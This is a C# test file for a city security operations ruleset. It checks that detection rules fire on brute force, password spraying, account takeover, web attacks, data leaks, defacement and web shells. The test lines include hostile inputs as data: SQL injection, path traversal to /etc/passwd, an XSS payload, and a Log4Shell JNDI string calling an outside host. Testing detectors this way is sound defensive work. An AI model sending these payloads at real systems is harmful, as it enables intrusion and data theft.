using System.Globalization;
using System.Text.Json;
using Spbe.Security.Soc.Correlation;
using Spbe.Security.Soc.Ruleset;
using Spbe.Security.Testing;

namespace Spbe.Security.Soc.Rules;

/// <summary>The city's own decoders and rules (policies/soc), loaded alone as the product loads them by default.</summary>
public sealed class SpbeRulesTests
{
    private static readonly Lazy<SocRuleset> Ruleset = new(() => SocRuleset.Load([Path.Combine(RepositoryPaths.Policies, "soc")], TimeZoneInfo.Utc));

    private readonly CorrelationState _state = new();
    private DateTimeOffset _clock = new(2026, 11, 24, 3, 0, 0, TimeSpan.Zero);

    /// <summary>A security event as the host writes it (SecurityEventJson: ECS names).</summary>
    private static string Security(string action, string outcome, string nip, string ip, string? reason = null, string? client = null) =>
        JsonSerializer.Serialize(new Dictionary<string, object?>
        {
            ["@timestamp"] = "2026-11-24T03:00:00.0000000Z",
            ["event"] = new Dictionary<string, object?>
            {
                ["kind"] = "event", ["category"] = new[] { "authentication" }, ["module"] = "spbe-identity", ["action"] = action, ["outcome"] = outcome,
                ["reason"] = reason,
            }.Where(p => p.Value is not null).ToDictionary(),
            ["user"] = new { name = nip },
            ["source"] = new { ip },
            ["client"] = new { id = client ?? "portal" },
            ["organization"] = new { id = "DINKES" },
        });

    private string? Rule(string line, TimeSpan? after = null)
    {
        _clock += after ?? TimeSpan.FromSeconds(1);
        return Ruleset.Value.Analyze(line, _state, _clock).Match?.Rule.Id.ToString(CultureInfo.InvariantCulture);
    }

    [Fact]
    public void Policies_LoadWithoutProblems()
    {
        Assert.Empty(Ruleset.Value.Problems.Select(p => p.ToString()));
        Assert.True(Ruleset.Value.Rules.Count >= 20);
    }

    [Fact]
    public void SsoBruteForce_OnOneNip_FiresOnTheSixthFailure()
    {
        var line = Security("sso-login", "failure", "199001012020121001", "203.0.113.7");
        Assert.Equal(["100101", "100101", "100101", "100101", "100101", "100102"], Enumerable.Range(0, 6).Select(_ => Rule(line)));
    }

    [Fact]
    public void PasswordSpraying_AcrossNips_FiresOnTheEighth()
    {
        var results = Enumerable.Range(0, 8).Select(i => Rule(Security("sso-login", "failure", $"19900101202012100{i}", "203.0.113.8"))).ToList();
        Assert.Equal("100103", results[^1]);
        Assert.All(results[..^1], r => Assert.Equal("100101", r));
    }

    [Fact]
    public void RefreshReuse_And_SigningWithoutValidCertificate_AreSevere()
    {
        Assert.Equal("100104", Rule(Security("sso-refresh-reuse", "failure", "199001012020121001", "198.51.100.1")));
        Assert.Equal("100110", Rule(Security("tte-sign", "failure", "199001012020121001", "198.51.100.1", "TTE-0004")));
        Assert.Equal(12, Ruleset.Value.Rules.Find(100110)!.Level);
    }

    [Fact]
    public void WrongSigningPassphrase_ThreeTimes_IsFlagged()
    {
        var line = Security("tte-sign", "failure", "198501012010011001", "10.1.1.1", "PKI-0022");
        Assert.Equal(["100108", "100108", "100109"], Enumerable.Range(0, 3).Select(_ => Rule(line)));
    }

    [Fact]
    public void MfaReset_ThenLoginFromANewAddress_IsAccountTakeover()
    {
        Assert.Equal("100105", Rule(Security("sso-mfa-reset", "success", "197001012000011001", "10.2.2.2")));
        Assert.Equal("100106", Rule(Security("sso-login", "success", "197001012000011001", "10.2.2.2")));
        Assert.Equal("100107", Rule(Security("sso-login", "success", "197001012000011001", "203.0.113.50"), TimeSpan.FromHours(2)));
    }

    [Fact]
    public void SshBruteForce_ThenSuccessFromThatAddress_IsACompromise()
    {
        var failed = "Nov 24 10:00:00 web01 sshd[100]: Failed password for root from 192.0.2.9 port 4022 ssh2";
        var results = Enumerable.Range(0, 8).Select(_ => Rule(failed)).ToList();
        Assert.Equal("100122", results[^1]);
        Assert.Equal("100123", Rule("Nov 24 10:05:00 web01 sshd[101]: Accepted password for budi from 192.0.2.10 port 4023 ssh2"));
        Assert.Equal("100130", Rule("Nov 24 10:05:01 web01 sshd[102]: Accepted password for root from 192.0.2.9 port 4024 ssh2"));
    }

    /// <summary>With Wazuh's stock set loaded first (Soc:Rulesets), its sshd decoder and rules take SSH logs; the chain
    /// still closes on its brute-force and success rules, and on our SSO rules.</summary>
    [SharedDataFact]
    public void WithTheStockRuleset_BruteForceThenSuccess_IsStillACompromise()
    {
        var ruleset = SocRuleset.Load([Path.Combine(RepositoryPaths.Shared, "data", "wazuh-4.14.7"), Path.Combine(RepositoryPaths.Policies, "soc")], TimeZoneInfo.Utc);
        var state = new CorrelationState();

        // Note: in office hours, or Wazuh's 17101 (login outside business hours) takes the success first.
        var clock = new DateTimeOffset(2026, 11, 24, 10, 0, 0, TimeSpan.Zero);
        string? Fire(string line)
        {
            clock += TimeSpan.FromSeconds(1);
            return ruleset.Analyze(line, state, clock).Match?.Rule.Id.ToString(CultureInfo.InvariantCulture);
        }

        var failed = "Nov 24 10:00:00 web01 sshd[100]: Failed password for root from 192.0.2.9 port 4022 ssh2";
        var results = Enumerable.Range(0, 8).Select(_ => Fire(failed)).ToList();
        Assert.Equal("5763", results[^1]);
        Assert.Equal("5715", Fire("Nov 24 10:05:00 web01 sshd[101]: Accepted password for budi from 192.0.2.10 port 4023 ssh2"));
        Assert.Equal("100130", Fire("Nov 24 10:05:01 web01 sshd[102]: Accepted password for root from 192.0.2.9 port 4024 ssh2"));

        // Note: the host's security events as the live pipeline hands them over (AlertDetector.LineOf); bare JSON would
        // go to Wazuh's generic json decoder, which is loaded first.
        string Live(string json) => "Nov 24 10:10:00 spbe spbe-security: " + json;
        var sso = Enumerable.Range(0, 6).Select(_ => Fire(Live(Security("sso-login", "failure", "199001012020121001", "203.0.113.99")))).ToList();
        Assert.Equal("100102", sso[^1]);
        Assert.Equal("100130", Fire(Live(Security("sso-login", "success", "199001012020121001", "203.0.113.99"))));
    }

    [Fact]
    public void SsoBruteForce_ThenSsoSuccessFromThatAddress_IsACompromise()
    {
        for (var i = 0; i < 6; i++)
        {
            Rule(Security("sso-login", "failure", "199001012020121001", "203.0.113.99"));
        }

        Assert.Equal("100130", Rule(Security("sso-login", "success", "199001012020121001", "203.0.113.99")));
    }

    private static string Access(string ip, string request, int status, string tag = "") =>
        $"{tag}{ip} - - [24/Nov/2026:10:00:00 +0700] \"{request} HTTP/1.1\" {status} 5120 \"-\" \"Mozilla/5.0\"";

    [Fact]
    public void WebAttacks_AreFlagged_RepeatedOnesEscalate_AndOnesAnsweredWithContentAreSevere()
    {
        Assert.Null(Rule(Access("198.51.100.20", "GET /berita/2026/11/rapat.html", 200)));
        var probe = Access("203.0.113.5", "GET /berita.php?id=1%27%20or%201=1--", 404);
        var results = Enumerable.Range(0, 10).Select(_ => Rule(probe)).ToList();
        Assert.All(results[..^1], r => Assert.Equal("100141", r));
        Assert.Equal("100142", results[^1]);

        // Raw, or behind a syslog header from nginx: the same decoder takes both.
        Assert.Equal("100143", Rule(Access("203.0.113.6", "GET /unduh.php?file=../../../../etc/passwd", 200, "Nov 24 10:00:00 web01 nginx: ")));
        Assert.Equal("100141", Rule(Access("203.0.113.6", "GET /cari?q=%3Cscript%3Ealert(1)%3C/script%3E", 200)));
        Assert.Equal("100141", Rule(Access("203.0.113.6", "GET /?x=${jndi:ldap://203.0.113.6/a}", 400)));
        Assert.Equal(12, Ruleset.Value.Rules.Find(100143)!.Level);
    }

    [Fact]
    public void SensitiveFilesAndMassDownloads_AreDataLeaks()
    {
        Assert.Equal("100145", Rule(Access("203.0.113.7", "GET /backup/db_simpeg.sql", 200)));
        Assert.Equal("100145", Rule(Access("203.0.113.7", "GET /.git/config", 200)));
        Assert.Null(Rule(Access("203.0.113.7", "GET /backup/db_simpeg.sql", 404)));
        var downloads = Enumerable.Range(0, 50).Select(i => Rule(Access("203.0.113.8", $"GET /arsip/sk-walikota-{i}.pdf", 200))).ToList();
        Assert.All(downloads[..^1], r => Assert.Equal("100146", r));
        Assert.Equal("100147", downloads[^1]);
    }

    [Fact]
    public void AideReports_OfTheWebRoot_AreDefacement_AndNewScriptsThere_WebShells()
    {
        Assert.Equal("100151", Rule("Nov 24 10:00:00 web01 aide: f   ...    .C... : /var/www/html/index.html"));
        Assert.Equal("100152", Rule("Nov 24 10:00:00 web01 aide: f++++++++++++++++: /var/www/html/uploads/shell.php"));
        Assert.Equal("100151", Rule("Nov 24 10:00:00 web01 aide: f----------------: /var/www/html/logo.png"));
        Assert.Null(Rule("Nov 24 10:00:00 web01 aide: f   ...    .C... : /etc/hosts"));
    }

    [Fact]
    public void ClamAvDetections_AreMalware()
    {
        Assert.Equal("100156", Rule("Nov 24 10:00:00 web01 clamd[812]: /var/www/html/uploads/x.php: Php.Webshell.Generic-1 FOUND"));
        Assert.Null(Rule("Nov 24 10:00:00 web01 clamd[812]: SelfCheck: Database status OK."));
    }

    [Fact]
    public void ManySignaturesInMinutes_BySomeone_AreSuspicious()
    {
        var line = Security("tte-sign", "success", "198501012010011001", "10.1.1.1");
        var results = Enumerable.Range(0, 30).Select(_ => Rule(line)).ToList();
        Assert.All(results[..^1], r => Assert.Equal("100111", r));
        Assert.Equal("100112", results[^1]);
    }
}
